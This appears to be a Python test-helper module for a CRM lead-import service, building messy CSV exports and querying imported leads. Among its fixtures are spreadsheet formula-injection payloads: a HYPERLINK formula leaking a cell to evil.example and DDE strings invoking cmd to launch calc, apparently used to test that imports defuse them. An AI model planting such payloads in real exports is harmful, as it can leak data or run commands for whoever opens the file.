"""Builders for import files and helpers that read back what an import left in the store."""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

from sqlalchemy import func, select
from sqlalchemy.orm import Session

from leadflow.imports.service import ImportReport, ImportRun, open_import
from leadflow.models import (
    Activity,
    Company,
    ImportJob,
    ImportRejection,
    Lead,
    MergeRecord,
    Workspace,
)

CRM_HEADER = (
    "First Name", "Last Name", "E-mail Address", "Mobile Phone", "Company Name", "Website",
    "Job Title", "Notes",
)  # fmt: skip


def cell(value: str, delimiter: str = ",") -> str:
    """One cell as a spreadsheet writes it: quoted only when it has to be."""
    if any(char in value for char in (delimiter, '"', "\r", "\n")):
        return '"' + value.replace('"', '""') + '"'
    return value


def record(*cells: str, delimiter: str = ",") -> str:
    return delimiter.join(cell(value, delimiter) for value in cells)


def csv_text(lines: Iterable[str], *, newline: str = "\r\n") -> str:
    """Records (already rendered, or "" for a blank line) joined as a file ending in a newline."""
    return newline.join(lines) + newline


def table(header: Sequence[str], rows: Iterable[Sequence[str]], *, delimiter: str = ",") -> str:
    lines = [record(*header, delimiter=delimiter)]
    lines += [record(*row, delimiter=delimiter) for row in rows]
    return csv_text(lines)


def write(tmp_path: Path, text: str | bytes, *, name: str = "leads.csv") -> Path:
    path = tmp_path / name
    if isinstance(text, str):
        path.write_bytes(text.encode("utf-8"))
    else:
        path.write_bytes(text)
    return path


def run_import(
    session: Session,
    workspace: Workspace,
    path: Path,
    *,
    chunk_rows: int = 5000,
    dry_run: bool = False,
    overrides: dict[str, str] | None = None,
) -> tuple[ImportJob, ImportReport]:
    job = open_import(session, workspace=workspace, path=path, dry_run=dry_run, overrides=overrides)
    session.commit()
    report = ImportRun(job.id, chunk_rows=chunk_rows).run()
    session.expire_all()
    return job, report


def counts(report: ImportReport) -> tuple[int, int, int, int]:
    return report.rows, report.created, report.merged, report.rejected


def rejections(session: Session, job_id: int) -> list[tuple[int, str, str]]:
    statement = (
        select(ImportRejection.line, ImportRejection.reason, ImportRejection.raw)
        .where(ImportRejection.import_job_id == job_id)
        .order_by(ImportRejection.line, ImportRejection.id)
    )
    return [tuple(row) for row in session.execute(statement)]  # type: ignore[misc]


def leads(session: Session, workspace_id: int) -> list[Lead]:
    statement = select(Lead).where(Lead.workspace_id == workspace_id).order_by(Lead.id)
    return list(session.scalars(statement))


def lead_by_email(session: Session, workspace_id: int, email_key: str) -> Lead:
    found = session.scalars(
        select(Lead).where(Lead.workspace_id == workspace_id, Lead.email_key == email_key)
    ).all()
    assert len(found) == 1, f"{len(found)} leads for {email_key}"
    return found[0]


PERSON = (
    Lead.first_name, Lead.last_name, Lead.email, Lead.email_key, Lead.phone, Lead.whatsapp_id,
    Lead.title, Lead.city,
)  # fmt: skip


def people(session: Session, workspace_id: int) -> list[tuple[Any, ...]]:
    """Every lead of a workspace as the values a person is, independent of ids and order."""
    statement = (
        select(*PERSON, Company.name, Company.domain, Lead.custom_fields)
        .outerjoin(Company, Company.id == Lead.company_id)
        .where(Lead.workspace_id == workspace_id)
    )
    rows = [(*row[:-1], sorted((row[-1] or {}).items())) for row in session.execute(statement)]
    return sorted(rows, key=repr)


def table_counts(session: Session, workspace_id: int) -> dict[str, int]:
    """How many rows the workspace has in every table an import writes to."""
    found = {}
    for model in (Lead, Company, MergeRecord, Activity):
        statement = (
            select(func.count()).select_from(model).where(model.workspace_id == workspace_id)
        )
        found[model.__name__] = session.scalar(statement) or 0
    return found


def merges(session: Session, lead_id: int) -> list[MergeRecord]:
    statement = select(MergeRecord).where(MergeRecord.lead_id == lead_id).order_by(MergeRecord.id)
    return list(session.scalars(statement))


JOSE = "jose.munoz@acme-widgets.com"
ACME = ("Acme Widgets", "https://www.acme-widgets.com/")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1;"click")'
CALC = "+cmd|' /C calc'!A0"
SUM_CALC = "@SUM(1+1)*cmd|' /C calc'!A0"
CALL_BACK = "call back;\r\nafter Q3\nask for Ünal"


def messy_crm_export(encoding: str = "cp1252") -> bytes:
    """A CRM export as people really send them: semicolons (a European Excel), CRLF, quoted
    cells holding semicolons and line breaks, accents, one person three times, broken rows,
    formula payloads, blank lines and a ragged row. The physical line of each record is noted;
    a quoted line break moves every later record down."""

    def row(*cells: str) -> str:
        return record(*cells, delimiter=";")

    blank = ("",) * 3
    lines = [
        row(*CRM_HEADER),  # line 1
        # lines 2-3: created; a line break inside the quoted notes
        row("José", "Muñoz", JOSE, "(415) 555-2671", *ACME, "", "Met at the expo; budget\n5000 €"),
        "",  # line 4: blank
        # line 5: merged into José (his email in other case), fills in his title
        row("JOSE", "MUÑOZ", JOSE.upper(), "+1 415 555 2671", ACME[0], "", "Head of Sales", ""),
        # lines 6-8: merged into José again; a Windows and a Unix line break in the notes
        row("José", "Muñoz", "Jose.Munoz@ACME-WIDGETS.COM", "415.555.2671", *blank, CALL_BACK),
        row("Björn", "Müller", "bjorn@@example.com", "", "", "", "", "über"),  # 9: bad email
        row("Zoë", "Ñúñez", "zoe@example.com", "12", "", "", "", ""),  # 10: bad phone
        row(*[""] * 8),  # line 11: only delimiters, not a record
        row("Ana", "Sin Contacto", "", "", "", "", "Consultant", "no email; no phone"),  # 12
        row(HYPERLINK, CALC, "eve@formula.example", *blank, "-2+3", SUM_CALC),  # 13: created
        row("-2+3", "@SUM(A1:A9)", "mallory@formula.example", *blank, "", "=1+2"),  # 14: created
        # lines 15-16: rejected, two non-empty cells past the header
        row("Ragged", "Row", "ragged@example.com", *blank, "", "two\nlines", "extra", "more"),
        row("Günther", "Überbacher", "gunther@example.de", *blank, "", "", "", ""),  # 17: created
        row("Renée", "Dupont", "renee@example.fr"),  # line 18: a short row, created
        row("Jane", "Doe", "jane.doe(at)example.com", "+1 415 555 0134", *blank, ""),  # 19
        "",  # line 20: blank
    ]
    return csv_text(lines).encode(encoding)


def writer_held_while_uploads_are_read(monkeypatch: Any) -> list[bool]:
    """Whether a writer turn was held each time an upload (an import's file, its columns, a
    knowledge document) was kept or read: SQLite has one, and every workspace's webhooks wait
    for it."""
    from leadflow import db
    from leadflow.imports import service as imports
    from leadflow.knowledge import service as knowledge

    held: list[bool] = []

    def watched(function: Any) -> Any:
        def call(*args: Any, **kwargs: Any) -> Any:
            held.append(db.WRITER.held)
            return function(*args, **kwargs)

        return call

    monkeypatch.setattr(imports, "keep_upload", watched(imports.keep_upload))
    monkeypatch.setattr(imports, "read_columns", watched(imports.read_columns))
    monkeypatch.setattr(knowledge, "keep_file", watched(knowledge.keep_file))
    return held
